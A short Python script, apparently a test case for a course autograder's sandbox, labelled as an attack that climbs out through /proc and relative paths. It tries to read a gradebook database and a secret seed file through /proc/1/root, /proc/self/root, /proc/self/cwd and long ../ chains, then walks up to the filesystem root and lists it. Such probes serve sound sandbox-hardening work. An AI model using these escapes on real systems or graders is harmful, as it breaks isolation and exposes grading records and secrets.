# attack: climbs out through /proc and relative paths
def look(path):
    try:
        with open(path, "rb") as file:
            print(path, file.read())
    except OSError as error:
        print(path, error.strerror)

import os
for path in ("/proc/1/root@COURSE@/gradebook.db", "/proc/self/cwd/../../../../../..@COURSE@/gradebook.db", "/old@COURSE@/gradebook.db", "/proc/self/root@COURSE@/.secret_seed"):
    look(path)
os.chdir("/")
for _ in range(20):
    os.chdir("..")
print(os.listdir("."))
